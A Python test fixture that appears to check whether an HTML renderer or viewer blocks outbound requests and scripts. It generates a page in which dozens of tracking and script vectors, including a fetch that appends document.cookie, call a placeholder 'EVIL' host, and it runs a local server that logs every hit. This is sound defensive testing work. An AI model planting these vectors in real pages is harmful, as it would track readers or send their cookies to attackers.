"""A page that tries everything by which a page does something, or tells somebody that it is looked at."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

TITLE = "Feedback"
# What arrives from a browser that lets the page do as it likes. Each is asked for in a way of its own.
OF_MARKUP = (
    "style", "icon", "preload", "import", "font", "background", "image", "srcset", "source", "poster", "audio", "frame",
    "object", "embed", "svg-image", "input", "bullet", "inline-style",
)  # fmt: skip
OF_SCRIPTS = ("script", "fetch", "onload", "onerror", "svg-script", "srcdoc", "focus", "window")
PICTURE = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>TITLE</title>
<meta name="referrer" content="unsafe-url">
<link rel="stylesheet" href="EVIL/style"><link rel="icon" href="EVIL/icon"><link rel="prefetch" href="EVIL/prefetch">
<link rel="preload" as="image" href="EVIL/preload"><link rel="modulepreload" href="EVIL/modulepreload">
<link rel="manifest" href="EVIL/manifest"><link rel="dns-prefetch" href="EVIL">
<link rel="prerender" href="EVIL/prerender">
<script type="speculationrules">{"prerender": [{"urls": ["EVIL/speculation"]}]}</script>
<style>@import url(EVIL/import); @font-face {font-family: evil; src: url(EVIL/font)}
body {background: url(EVIL/background); font-family: evil} li {list-style-image: url(EVIL/bullet)}
#styled {width: 123px; height: 10px}</style>
<script>
document.title = "ran"; fetch("EVIL/fetch?" + document.cookie, {mode: "no-cors"}); window.open("EVIL/window");
navigator.sendBeacon("EVIL/beacon"); alert("ran");
</script>
<script src="EVIL/script"></script>
</head><body onload="fetch('EVIL/onload', {mode: 'no-cors'})">
<p id="styled">A text</p><img id="picture" src="PICTURE" width="50" height="40">
<img src="EVIL/image"><img srcset="EVIL/srcset 1x"><img src="data:x" onerror="fetch('EVIL/onerror', {mode: 'no-cors'})">
<picture><source srcset="EVIL/source"><img src="PICTURE"></picture><p style="background: url(EVIL/inline-style)">x</p>
<video poster="EVIL/poster" autoplay src="EVIL/video"></video>
<audio src="EVIL/audio" autoplay controls preload="auto"></audio>
<iframe srcdoc="<script>fetch('EVIL/srcdoc', {mode: 'no-cors'})</script>"></iframe>
<object data="EVIL/object"></object><embed src="EVIL/embed"><ul><li>x</li></ul>
<svg><image href="EVIL/svg-image"/><use href="EVIL/use#x"/>
<script>fetch("EVIL/svg-script", {mode: "no-cors"})</script></svg>
<form id="form" action="EVIL/form" method="post"><input name="a" value="b"><input type="image" src="EVIL/input">
<button id="send">Send</button><button id="elsewhere" formaction="EVIL/formaction">Send</button></form>
<form action="EVIL/other"><input autofocus onfocus="fetch('EVIL/focus', {mode: 'no-cors'})"></form>
<p><a id="blank" target="_blank" href="EVIL/blank">blank</a> <a id="named" target="other" href="EVIL/named">named</a>
<a id="ping" ping="EVIL/ping" href="#there">ping</a> <a id="download" download href="data:text/plain,x">download</a>
<a id="javascript" href="javascript:fetch('EVIL/javascript')">javascript</a> <a id="leave" href="EVIL/leave">leave</a>
<a id="top" target="_top" href="javascript:void fetch('EVIL/top')">top</a></p>
<noscript><img src="EVIL/noscript"></noscript>
MORE</body></html>"""
# On its own it would end the page before the rest has happened.
REFRESH = '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'
FRAME = '<iframe src="EVIL/frame"></iframe>'
AUTO_SUBMIT = "<script>document.getElementById('form').submit()</script>"
# What is clicked, as somebody does who believes the page.
CLICKED = ("send", "elsewhere", "blank", "named", "ping", "download", "javascript", "top")


def hostile_page(evil: str, more: str = "") -> bytes:
    """The page.

    Args:
        evil: the address of a site that notes who comes.
        more: what is added to it.
    """
    made = _PAGE.replace("MORE", more).replace("EVIL", evil).replace("PICTURE", PICTURE).replace("TITLE", TITLE)
    return made.encode()


class Site:
    """A site that notes every connection and every request."""

    def __init__(self) -> None:
        self.address = ""
        self.connections = 0
        self.requests: list[tuple[str, dict[str, str]]] = []

    @property
    def paths(self) -> set[str]:
        """What was asked for, without the slash and the query."""
        return {path.partition("?")[0].strip("/") for path, _ in self.requests}

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer whatever is asked with an empty page that everybody may read."""
        self.connections += 1
        try:
            while line := await reader.readline():
                headers: dict[str, str] = {}
                while (header := (await reader.readline()).decode("latin-1").strip()) != "":
                    name, _, value = header.partition(":")
                    headers[name.lower()] = value.strip()
                await reader.readexactly(int(headers.get("content-length", 0)))
                self.requests.append((line.decode("latin-1").split()[1], headers))
                writer.write(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n"
                    b"Access-Control-Allow-Origin: *\r\n\r\n"
                )
                await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()


@asynccontextmanager
async def noting_site() -> AsyncIterator[Site]:
    """Serve such a site, on an address that is not ours."""
    site = Site()
    server = await asyncio.start_server(site.answer, "127.0.0.3", 0)
    site.address = f"http://127.0.0.3:{server.sockets[0].getsockname()[1]}"
    try:
        yield site
    finally:
        server.close()
